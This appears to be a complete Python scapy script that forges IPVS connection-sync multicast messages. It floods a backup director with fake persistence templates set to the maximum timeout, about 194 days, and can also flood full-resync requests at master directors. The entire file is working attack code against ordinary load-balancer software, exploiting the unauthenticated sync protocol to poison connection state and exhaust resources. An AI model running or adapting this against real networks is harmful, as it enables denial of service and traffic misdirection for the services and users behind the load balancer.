# A flood of IPVS sync messages (version 1) at a backup director, as anyone on
# the segment can send them: persistence templates for COUNT distinct clients
# of VIP:80 on real server RIP, each with the largest timeout the message can
# carry. Usage: sync_flood.py IFACE SRC_IP VIP RIP COUNT
# With `requests SYNCID` after COUNT: COUNT full-resync requests (lvsd's: an
# 8-byte v1 header, no connections, "RS" in the spare field) at the masters.
import struct, sys
from scapy.all import Ether, IP, UDP, Raw, conf, get_if_hwaddr

iface, src, vip, rip, count = sys.argv[1:6]
conf.verb = 0
s = conf.L2socket(iface=iface)
smac = get_if_hwaddr(iface)  # a bridge drops frames from 00:00:00:00:00:00
GROUP, PORT = "224.0.0.81", 8848
FLAG_TEMPLATE, FLAG_DR = 0x1000, 0x0003
PER_MESSAGE = 40  # 8 + 40 * 36 = 1448 bytes, within the default sync_maxlen

def ip4(a):
    return bytes(int(x) for x in a.split("."))

def entry(i):
    client = "10.77.%d.%d" % (i // 250, i % 250 + 1)
    # type 0 (IPv4), protocol TCP, version 0 / size 36; flags; state 0, cport 0, vport 80, dport 80;
    # fwmark 0; timeout 0xFFFFFF s (about 194 days); client, virtual, destination addresses.
    return (struct.pack("!BBH", 0, 6, 36) + struct.pack("!I", FLAG_TEMPLATE | FLAG_DR)
            + struct.pack("!HHHH", 0, 0, 80, 80) + struct.pack("!II", 0, 0x00FFFFFF)
            + ip4(client) + ip4(vip) + ip4(rip))

n = int(count)
sent = 0
if len(sys.argv) > 7 and sys.argv[6] == "requests":
    syncid = int(sys.argv[7])
    msg = struct.pack("!BBHBBH", 0, syncid, 8, 0, 1, 0x5253)
    frame = Ether(src=smac, dst="01:00:5e:00:00:51") / IP(src=src, dst=GROUP, ttl=1) / UDP(sport=PORT, dport=PORT) / Raw(msg)
    raw = bytes(frame)
    for _ in range(n):
        s.send(raw)
    print("sent %d requests" % n, flush=True)
    sys.exit(0)
for first in range(0, n, PER_MESSAGE):
    entries = [entry(i) for i in range(first, min(n, first + PER_MESSAGE))]
    body = b"".join(entries)
    # reserved 0, syncid 0, size, entry count, version 1, spare 0
    msg = struct.pack("!BBHBBH", 0, 0, 8 + len(body), len(entries), 1, 0) + body
    frame = Ether(src=smac, dst="01:00:5e:00:00:51") / IP(src=src, dst=GROUP, ttl=1) / UDP(sport=PORT, dport=PORT) / Raw(msg)
    s.send(bytes(frame))
    sent += len(entries)
print("sent %d templates" % sent, flush=True)
